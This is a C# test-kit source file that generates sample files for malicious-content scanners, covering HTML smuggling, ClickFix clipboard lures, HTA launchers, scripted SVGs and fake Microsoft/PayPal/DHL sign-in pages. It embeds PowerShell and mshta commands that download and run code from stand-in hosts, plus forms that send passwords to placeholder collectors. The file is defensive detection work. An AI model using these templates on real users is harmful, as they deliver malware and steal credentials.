namespace ScanHost.TestKit.Techniques;

/// <summary>A page that builds an archive out of its own text and saves it.</summary>
public sealed class HtmlSmuggling : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = Convert.ToBase64String([.. InertFiles.Zip(("invoice.exe", InertFiles.Pe())), .. new byte[400]]);
        var exe = Convert.ToBase64String(InertFiles.Pe());
        const string Click = "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice';document.body.appendChild(a);a.click();";
        return Texts("html",
            $"<html><body><script>var d='{zip}';var s=atob(d);var u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);var b=new Blob([u]);{Click}</script></body></html>",
            $"<html><head><title>Document</title></head><body onload=\"go()\"><script>function go(){{const f=\"{exe}\";const b=new Blob([Uint8Array.from(atob(f),c=>c.charCodeAt(0))],{{type:'octet/stream'}});{Click}}}</script></body></html>",
            $"<html><script>let x=`{zip}`;let b=new File([Uint8Array.from(window.atob(x),c=>c.charCodeAt(0))],'a.zip');if(navigator.msSaveOrOpenBlob)navigator.msSaveOrOpenBlob(b);else{{{Click}}}</script></html>",
            $"<!DOCTYPE html><html><body><p>Loading your file</p><script>const p=['{exe[..600]}','{exe[600..]}'];const d='{exe}';fetch('data:application/octet-stream;base64,'+d).then(r=>r.blob()).then(q=>{{var b=new Blob([q,new Uint8Array(0)]);{Click}}});</script></body></html>");
    }
}

/// <summary>A page that puts a command on the clipboard and explains how to run it.</summary>
public sealed class ClickFix : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var encoded = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')");
        return Texts("html",
            $"<html><p>Verify you are human: press Windows + R, then Ctrl + V, then Enter.</p><script>function f(){{navigator.clipboard.writeText('powershell -w hidden -enc {encoded}')}}</script></html>",
            "<html><p>To fix: press Win + R and paste.</p><script>var c='powershell -w h -nop -c \"iex (irm http://192.0.2.9/a)\"';navigator.clipboard.writeText(c);</script></html>",
            "<html><div>Press the Windows button + R. Paste with CTRL + V.</div><script>const t='mshta http://192.0.2.9/verify.hta # robot check';navigator.clipboard.writeText(t)</script></html>",
            $"<html><p>Windows key and R, then paste</p><textarea id=t></textarea><script>t.value='cmd /c start /min powershell -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}';t.select();document.execCommand('copy')</script></html>");
    }
}

/// <summary>An HTML application that starts programs.</summary>
public sealed class HtaLauncher : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("hta",
        "<html><head><hta:application id=a showintaskbar=no></head><script language=VBScript>CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -nop -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.5/a')\", 0\nwindow.close</script></html>",
        "<html><hta:application windowstate=minimize><script>var s=new ActiveXObject('WScript.Shell');s.Run('mshta http://192.0.2.5/b.hta');close();</script></html>",
        "<script language=\"JScript\">var x=new ActiveXObject('MSXML2.XMLHTTP');var w=new ActiveXObject('WScript.Shell');var t=new ActiveXObject('ADODB.Stream');t.Write(x.responseBody);t.SaveToFile('a.exe');w.Run('a.exe');</script>",
        $"<html><head><hta:application></head><body><script language=VBScript>Set s=CreateObject(\"Wscript.Shell\"):s.Run \"powershell.exe -nop -w hidden -enc {InertFiles.EncodedCommand("iex (iwr http://192.0.2.5/c)")}\"</script></body></html>");
}

/// <summary>A drawing with script that leads to a sign-in page or to a file.</summary>
public sealed class SvgScript : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = Convert.ToBase64String([.. InertFiles.Zip(("a.js", "1"u8.ToArray())), .. new byte[400]]);
        return Texts("svg",
            $"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var d='{zip}';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);location.href=URL.createObjectURL(b);</script></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"eval(atob('bG9jYXRpb24uaHJlZj0naHR0cDovLzE5Mi4wLjIuNS8nOyAgICA='))\"><circle r=\"1\"/></svg>",
            $"<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"data:application/zip;base64,{zip}\"><text>Open</text></a><script>document.querySelector('a').click()</script></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><form action=\"https://collect.invalid/p\"><input type=\"password\"/></form></foreignObject><script>document.write(unescape('%3Ch1%3ESign in%3C/h1%3E'+x))</script></svg>");
    }
}

/// <summary>A sign-in page of a brand that sends the password elsewhere.</summary>
public sealed class CredentialPage : Technique
{
    public override bool IsOfOneKind => true;

    public override IEnumerable<(string Name, byte[] Content)> Variants() => Texts("html",
        "<html><head><title>Microsoft 365 - Sign in</title></head><body><form action=\"https://collect.invalid/p.php\" method=post><input type=email><input type=password></form></body></html>",
        "<html><title>DHL Express - track</title><body><form><input type=password id=p></form><script>fetch('https://api.telegram.org/bot1:A/sendMessage?text='+p.value)</script></body></html>",
        "<html><head><title>OneDrive</title></head><body><script>document.write(unescape('%3Cp%3E'+x))</script><form action=//192.0.2.77/x><input type=password></form></body></html>",
        "<html><title>PayPal: confirm</title><form id=f><input type=password></form><script>$.ajax({type:'POST',url:'https://collect.invalid/a',data:1})</script></html>");
}
